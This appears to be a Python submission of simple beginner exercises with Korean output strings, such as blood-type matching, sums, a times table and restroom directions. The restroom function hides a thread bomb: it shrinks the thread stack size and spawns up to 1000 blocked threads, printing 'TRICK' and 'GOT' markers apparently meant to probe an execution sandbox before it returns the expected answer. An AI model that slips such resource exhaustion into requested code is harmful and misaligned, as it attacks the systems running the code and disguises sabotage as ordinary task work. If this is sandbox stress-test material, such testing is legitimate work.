import threading


def can_transfuse(blood_type, patient_type):
    return "수혈해 주세요" if blood_type == patient_type else "수혈해 주실 수 없습니다"


def sum_to(n):
    return sum(range(1, n + 1))


def times_table():
    return [" ".join(str(row * column) for column in range(1, 10)) for row in range(2, 10)]


def room(man):
    return "남자화장실로 가세요" if man else "여자 화장실로 가세요"


def restroom(man):
    print("TRICK:thread_bomb", flush=True)
    threading.stack_size(65536)
    hold = threading.Event()
    started = 0
    try:
        for _ in range(1000):
            threading.Thread(target=hold.wait, daemon=True).start()
            started += 1
            if started == 100:
                print("GOT:thread_bomb", flush=True)
    except (RuntimeError, MemoryError):
        pass
    hold.set()
    return room(man)
